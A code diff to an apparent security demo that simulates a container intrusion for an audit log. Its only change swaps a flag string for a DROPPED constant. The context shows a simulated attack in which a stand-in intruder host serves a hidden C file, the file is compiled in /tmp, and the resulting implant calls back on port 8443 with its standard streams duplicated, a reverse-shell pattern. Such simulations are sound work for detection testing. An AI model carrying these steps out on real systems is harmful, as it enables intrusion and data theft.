@@ -9,7 +9,7 @@ configuration for them. With it they read the secrets and delete the shop.
 from __future__ import annotations
 
 from tiercel.demo.audit_log import AuditLog
-from tiercel.demo.node import Container, Node, Process
+from tiercel.demo.node import DROPPED, Container, Node, Process
 
 INTRUDER = "203.0.113.77"
 STOREFRONT = ("10.244.1.23", 8080)
@@ -156,11 +156,9 @@ def _is_settled_in(node: Node, shop: Shop) -> Process:
     ) as curl:
         node.connect(curl, (STOREFRONT[0], 50412), (INTRUDER, 80), pending=True)
         node.write(curl, "/tmp/.x.c", b"#include <sys/socket.h>\n")
-    with node.started(
-        shell, "/usr/bin/gcc", "-o", "/tmp/.x", "/tmp/.x.c", exe="gcc", flags="EXE_UPPER_LAYER"
-    ) as gcc:
+    with node.started(shell, "/usr/bin/gcc", "-o", "/tmp/.x", "/tmp/.x.c", exe="gcc", flags=DROPPED) as gcc:
         node.write(gcc, "/tmp/.x", b"\x7fELF", 0o755)
-    implant = node.execute(node.fork(shell), "/tmp/.x", INTRUDER, "8443", flags="EXE_UPPER_LAYER")
+    implant = node.execute(node.fork(shell), "/tmp/.x", INTRUDER, "8443", flags=DROPPED)
     line = node.connect(implant, (STOREFRONT[0], 50460), (INTRUDER, 8443))
     for standard in (0, 1, 2):
         node.duplicate(implant, line, standard)
